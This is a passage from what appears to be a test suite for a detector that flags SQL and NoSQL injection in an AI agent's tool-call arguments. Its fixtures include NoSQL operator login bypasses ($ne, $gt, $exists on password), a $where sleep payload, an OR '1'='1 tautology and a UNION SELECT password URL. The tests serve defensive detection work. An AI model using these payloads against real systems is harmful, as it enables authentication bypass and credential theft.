      expect.objectContaining({ id: 'sql_injection', severity: 'high', path: '/arguments/password/$gt', evidence: 'NoSQL operator on a credential field (matches every record): password $gt ""' }),
    ]);
  });

  it("never quotes a credential's operand", () => {
    expect(detect('login', { user: 'a', password: { $ne: 'hunter2-real-password' } })[0]?.evidence).not.toContain('hunter2');
  });

  it('flags $where in any tool', () => {
    expect(ids(detect('find_users', { filter: { $where: 'sleep(5000) || true' } }), 'sql_injection')[0]?.evidence).toContain('$where runs JavaScript');
  });

  it("leaves a search tool's filters alone", () => {
    expect(detect('find_users', { filter: { email: { $regex: '@example.com$' }, age: { $gt: 21 } } })).toEqual([]);
    expect(detect('search_tickets', { query: { assignee: { $exists: true }, status: 'open' } })).toEqual([]);
  });
});

describe('form bodies whose values hold "="', () => {
  it("reads each pair of user=a&pass=1' OR '1'='1", () => {
    const found = ids(detect('http_request', { method: 'POST', url: 'https://x.example/login', body: "user=a&pass=1%27%20OR%20%271%27=%271" }), 'sql_injection')[0];
    expect(found?.evidence).toMatch(/^in parameter pass: tautology/);
  });
});

describe('request parameters in tools that carry text', () => {
  it('leaves a URL written into a file or sent in an e-mail to the other detectors', () => {
    const url = 'https://shop.example.com/item?id=1%20UNION%20SELECT%20password%20FROM%20users--';
    expect(ids(detect('write_file', { path: 'notes/pentest.md', content: url }), 'sql_injection')).toEqual([]);
    expect(ids(detect('send_email', { to: 'sec@example.com', subject: 'finding', body: url }), 'sql_injection')).toEqual([]);
  });
});

describe('operator objects that are questions, not bypasses', () => {
  it('leaves a database tool’s filter on whether a credential exists alone, and a nested $exists anywhere', () => {
    expect(ids(detect('mongo_find', { collection: 'users', filter: { api_key: { $exists: false } } }), 'sql_injection')).toEqual([]);
    expect(ids(detect('search_users', { filter: { token: { $exists: true } } }), 'sql_injection')).toEqual([]);
    // At the top of a login it matches every account that has a password.
    expect(ids(detect('login', { username: 'admin', password: { $exists: true } }), 'sql_injection')).toHaveLength(1);
  });
});

describe('operator objects inside JSON text', () => {
  it('reads them in an embedded document too, reported at the string that holds it', () => {
    expect(classify('mongo_find', { collection: 'users', filter: '{"username":"admin","password":{"$ne":""}}' }).signals.map((s) => `${s.id} ${s.path}`)).toContain('sql_injection /arguments/filter');
    expect(classify('login', { body: '{"username":"admin","password":{"$ne":null}}' }).signals.map((s) => `${s.id} ${s.path}`)).toContain('sql_injection /arguments/body');
  });
});
